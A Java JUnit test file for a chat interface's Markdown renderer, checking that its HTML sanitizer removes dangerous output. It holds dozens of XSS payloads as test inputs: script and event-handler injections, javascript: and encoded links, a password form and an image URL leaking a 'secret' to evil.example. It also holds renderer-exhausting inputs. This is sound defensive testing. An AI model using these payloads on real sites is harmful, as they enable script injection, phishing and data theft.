// SPDX-License-Identifier: Apache-2.0
package io.beep.host.ui.chats;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {
    private static final Set<String> HARMLESS = Set.of(
            "body",
            "p",
            "br",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "blockquote",
            "ul",
            "ol",
            "li",
            "strong",
            "em",
            "del",
            "code",
            "pre",
            "a",
            "span",
            "div",
            "button",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td");
    private static final Set<String> HARMLESS_ATTRIBUTES =
            Set.of("class", "href", "title", "rel", "target", "type", "tabindex", "start", "align");
    private static final Pattern OUTWARD = Pattern.compile("(?i)(https?://|mailto:).*");

    private final Markdown markdown = new Markdown("Copy");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "a <script src=https://evil.example/x.js></script> b",
                "<style>body{display:none}</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<iframe src=https://evil.example></iframe>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
                "<base href=https://evil.example/>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<object data=x></object><embed src=x>",
                "<div id=\"beep-main\" style=\"position:fixed;inset:0\" onclick=\"alert(1)\">x</div>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<!-- --!><script>alert(1)</script>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\nscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x](data:text/html,<script>alert(1)</script>)",
                "[x](vbscript:msgbox(1))",
                "[x](file:///etc/passwd)",
                "[x](blob:https://evil.example/1)",
                "[x](/ui/sign-in)",
                "[x](//evil.example)",
                "[x](../api/v1/things)",
                "[x](https://evil.example/\" onmouseover=\"alert(1))",
                "[x](https://evil.example 'a\" onmouseover=\"alert(1)')",
                "<javascript:alert(1)>",
                "<data:text/html,x>",
                "![x](https://evil.example/leak?q=secret)",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "[![x](https://evil.example/a.png)](https://evil.example)",
                "![a ![b](https://evil.example/b.png) c](https://evil.example/c.png)",
                "![x][r]\n\n[r]: https://evil.example/d.png",
                "[x][r]\n\n[r]: javascript:alert(1)",
                "```html\n<script>alert(1)</script>\n```",
                "```\"><script>alert(1)</script>\nx\n```",
                "```java onclick=alert(1)\nx\n```",
                "    <script>alert(1)</script>",
                "`<script>alert(1)</script>`",
                "> - <script>alert(1)</script>\n>   <img src=x onerror=alert(1)>",
                "| a |\n|---|\n| <script>alert(1)</script> |\n| ![x](https://evil.example/e.png) |",
                "# <script>alert(1)</script>",
                "~~<script>alert(1)</script>~~",
                "**<img src=x onerror=alert(1)>**",
                "</div></div><script>alert(1)</script>",
                "<button type=submit formaction=https://evil.example>x</button>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "www.evil.example/<script>alert(1)</script>",
            })
    void whatAStrangerWritesCanDoNothing(String hostile) {
        var rendered = String.join("", markdown.blocks(hostile));
        assertHarmless(Markdown.clean(rendered));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<style>*{display:none}</style>",
                "<div id=\"x\" onclick=\"alert(1)\" style=\"top:0\">y</div>",
                "<a href=\"javascript:alert(1)\" onclick=\"alert(1)\">x</a>",
                "<button type=\"submit\" formaction=\"https://evil.example\">x</button>",
                "<svg><script>alert(1)</script></svg>",
                "<input autofocus onfocus=alert(1)>",
            })
    void theSecondWallHoldsByItself(String html) {
        assertHarmless(Markdown.clean(html));
    }

    private static void assertHarmless(String html) {
        var body = Jsoup.parseBodyFragment(html).body();
        assertThat(body.getAllElements()).extracting(Element::tagName).isSubsetOf(HARMLESS);
        for (var element : body.getAllElements()) {
            element.attributes().forEach(attribute -> {
                assertThat(attribute.getKey()).isIn(HARMLESS_ATTRIBUTES);
                if (attribute.getKey().equals("href")) {
                    assertThat(attribute.getValue()).matches(OUTWARD);
                }
            });
        }
        assertThat(body.select("a")).allSatisfy(link -> {
            assertThat(link.attr("rel")).contains("noopener").contains("noreferrer");
            assertThat(link.attr("target")).isEqualTo("_blank");
        });
        assertThat(body.select("button"))
                .allSatisfy(button -> assertThat(button.attr("type")).isEqualTo("button"));
    }

    @Test
    void linesStayLines() {
        assertThat(html("An old silent pond\nA frog jumps into the pond"))
                .isEqualToIgnoringWhitespace("<p>An old silent pond<br>\nA frog jumps into the pond</p>");
    }

    @Test
    void htmlIsShownAsTheTextThatItIs() {
        assertThat(Jsoup.parse(html("a <b>bold</b> word")).text()).isEqualTo("a <b>bold</b> word");
    }

    @Test
    void anImageIsALinkWithItsDescription() {
        assertThat(html("![a cat](https://example.org/cat.png)"))
                .contains(">a cat</a>")
                .contains("href=\"https://example.org/cat.png\"")
                .doesNotContain("<img");
    }

    @Test
    void codeHasItsLanguageAButtonAndItsTextUntouched() {
        var code = Jsoup.parse(html("```python\nif a < b:\n    print(\"&amp;\")\n```"));
        assertThat(code.select("code.language-python").text()).isEqualTo("if a < b:\n    print(\"&amp;\")");
        assertThat(code.select(".beep-code-bar span").text()).isEqualTo("python");
        assertThat(code.select("button.beep-copy").text()).isEqualTo("Copy");
    }

    @Test
    void codeThatIsStillBeingWrittenIsCodeAlready() {
        assertThat(html("```js\nconst a = 1")).contains("language-js").contains("const a = 1");
    }

    @Test
    void tablesListsEmphasisAndLinksAreRendered() {
        assertThat(html("| a | b |\n|---|--:|\n| 1 | 2 |")).contains("<table>").contains("<td align=\"right\">2</td>");
        assertThat(html("3. x\n4. y")).contains("<ol start=\"3\">");
        assertThat(html("**a** *b* ~~c~~ `d`")).contains("<strong>", "<em>", "<del>", "<code>");
        assertThat(html("see https://example.org/x")).contains("href=\"https://example.org/x\"");
        assertThat(html("write to a@example.org")).contains("href=\"mailto:a@example.org\"");
    }

    @Test
    void eachTopLevelBlockIsByItself() {
        assertThat(markdown.blocks("# a\n\nb\n\n- c\n- d\n")).hasSize(3);
    }

    @Test
    void blocksThatAreFinishedStayTheSameWhileTheTextGrows() {
        var before = markdown.blocks("First.\n\nSecond is not");
        var after = markdown.blocks("First.\n\nSecond is not over yet");
        assertThat(after.getFirst()).isEqualTo(before.getFirst());
        assertThat(after.getLast()).isNotEqualTo(before.getLast());
    }

    @ParameterizedTest
    @MethodSource("exhausting")
    void textsMadeToExhaustTheRendererAreShownInTime(String hostile) {
        var html = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> html(hostile));
        assertHarmless(html);
        assertThat(html.length()).isLessThan(20_000 + 30 * hostile.length());
        assertThat(markdown.blocks(hostile)).hasSizeLessThan(4_000);
    }

    private static Stream<String> exhausting() {
        return Stream.of(
                ">".repeat(50_000) + "x",
                "- ".repeat(20_000) + "x",
                "1. ".repeat(20_000) + "x",
                "[".repeat(50_000),
                "![".repeat(50_000),
                "[a](".repeat(20_000),
                "*a **b ".repeat(20_000),
                "*".repeat(50_000) + "a" + "*".repeat(50_000),
                "*a ".repeat(20_000) + "b*".repeat(20_000),
                "*a\n".repeat(20_000) + "b*\n".repeat(20_000),
                ("*a ".repeat(700) + "b*".repeat(700) + "\n\n").repeat(20),
                "_a ".repeat(30_000),
                "~~a ~b".repeat(20_000),
                "<".repeat(50_000),
                "<a ".repeat(20_000),
                ("<".repeat(1_900) + "\n\n").repeat(40),
                "`a``b```c".repeat(10_000),
                "|a".repeat(5_000) + "\n" + "|-".repeat(5_000) + "\n" + "|x\n".repeat(3_000),
                "|a".repeat(39) + "\n" + "|-".repeat(39) + "\n" + "|x\n".repeat(60_000),
                "[a]: b\n".repeat(20_000),
                "a\n\n".repeat(30_000),
                "http://".repeat(20_000),
                "www.".repeat(40_000),
                "a@".repeat(40_000),
                "<![CDATA[".repeat(10_000),
                "x".repeat(1_000_000));
    }

    @Test
    void anOrdinaryLongAnswerIsStillRendered() {
        var answer = """
                ## Part

                Some **bold** words, a [link](https://example.org) and `code`.

                - *one*
                - **two**

                | a | b | c |
                |---|---|---|
                | 1 | 2 | 3 |

                """.repeat(300);
        assertThat(html(answer)).contains("<h2>").doesNotContain("beep-plain");
    }

    private String html(String source) {
        return markdown.blocks(source).stream().map(Markdown::clean).collect(Collectors.joining());
    }
}
